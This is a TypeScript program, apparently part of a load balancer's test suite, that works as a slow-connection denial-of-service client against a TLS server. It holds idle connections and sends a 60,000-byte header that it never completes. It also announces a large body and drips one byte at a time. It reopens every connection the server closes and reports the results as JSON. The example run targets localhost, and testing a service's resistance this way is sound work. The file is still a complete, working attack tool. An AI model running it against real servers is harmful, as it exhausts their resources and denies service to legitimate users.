import { connect, type TLSSocket } from 'node:tls';

/**
 * A client that means harm, as a program of its own: holds connections without using them, and opens each again that is closed.
 *
 *     node --import tsx attacker.ts '{"host": "127.0.0.1", "port": 443, "servername": "is.sandbox.test", "idle": 10000, "seconds": 60}'
 *
 * Prints "holding" once every connection has been tried, and what came of it as JSON at the end.
 */
export interface Attack {
  readonly host: string;
  readonly port: number;
  readonly servername: string;
  /** How long everything is held, in seconds. */
  readonly seconds: number;
  /** Connections that say nothing after the handshake. */
  readonly idle?: number;
  /** Connections that send a request and keep the connection. */
  readonly kept?: number;
  /** Connections that begin a header of 60,000 bytes and never end it. */
  readonly slowHeaders?: number;
  /** Connections that announce a body and send a byte of it now and then. */
  readonly slowBodies?: number;
  /** Path of the requests that keep their connection. @default - the load balancer's own page */
  readonly keptPath?: string;
  /** Path of the slow requests. */
  readonly path?: string;
}

export interface AttackReport {
  /** Connections at the end. */
  readonly open: number;
  /** The most at one time. */
  readonly most: number;
  readonly opened: number;
  /** Connections that the server has ended, or not accepted. */
  readonly ended: number;
  /** Answers by status. */
  readonly answers: Readonly<Record<string, number>>;
}

type Kind = 'idle' | 'kept' | 'slowHeaders' | 'slowBodies';

/** Handshakes under way at a time: more only wait for each other. */
const AT_A_TIME = 100;
const PAUSE_MS = 200;

if (require.main === module) void attack(JSON.parse(process.argv[2] as string) as Attack);

async function attack({
  host,
  port,
  servername,
  seconds,
  path = '/',
  keptPath = '/load-balancer-health',
  ...counts
}: Attack): Promise<void> {
  const wanted = (['slowHeaders', 'slowBodies', 'kept', 'idle'] as const).flatMap((kind) =>
    Array.from({ length: counts[kind] ?? 0 }, () => kind),
  );
  const answers: Record<string, number> = {};
  const sockets = new Set<TLSSocket>();
  let [tried, opened, ended, most, over] = [0, 0, 0, 0, false];
  const waiting: Kind[] = [...wanted];

  const words: Readonly<Record<Kind, string>> = {
    idle: '',
    kept: `GET ${keptPath} HTTP/1.1\r\nHost: ${servername}\r\n\r\n`,
    slowHeaders: `GET ${path} HTTP/1.1\r\nHost: ${servername}\r\n${`X-Filler: ${'a'.repeat(14_980)}\r\n`.repeat(4)}X-Last: `,
    slowBodies: `POST ${path} HTTP/1.1\r\nHost: ${servername}\r\nContent-Length: 1000000\r\n\r\n`,
  };
  const open = (kind: Kind) =>
    new Promise<void>((done) => {
      tried++;
      const socket = connect({ host, port, servername, rejectUnauthorized: false }, () => {
        opened++;
        sockets.add(socket);
        most = Math.max(most, sockets.size);
        if (words[kind] !== '') socket.write(words[kind]);
        done();
      });
      const drip = kind === 'slowBodies' ? setInterval(() => socket.writable && socket.write('a'), 4000) : undefined;
      socket.on('data', (data) => {
        const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1];
        if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1;
      });
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(drip);
        sockets.delete(socket);
        if (!over) ended++;
        waiting.push(kind);
        done();
      });
    });

  let told = false;
  const until = performance.now() + seconds * 1000;
  let endsAt = Number.POSITIVE_INFINITY;
  while (performance.now() < endsAt) {
    await Promise.all(waiting.splice(0, AT_A_TIME).map(open));
    if (tried >= wanted.length && !told) {
      told = true;
      endsAt = performance.now() + seconds * 1000;
      console.log('holding');
    }
    // A server that accepts nothing must not keep it for ever.
    if (!told && performance.now() > until + 120_000) endsAt = 0;
    if (waiting.length < AT_A_TIME) await new Promise((done) => setTimeout(done, PAUSE_MS));
  }
  over = true;
  const report: AttackReport = { open: sockets.size, most, opened, ended, answers };
  console.log(JSON.stringify(report));
  process.exit(0);
}
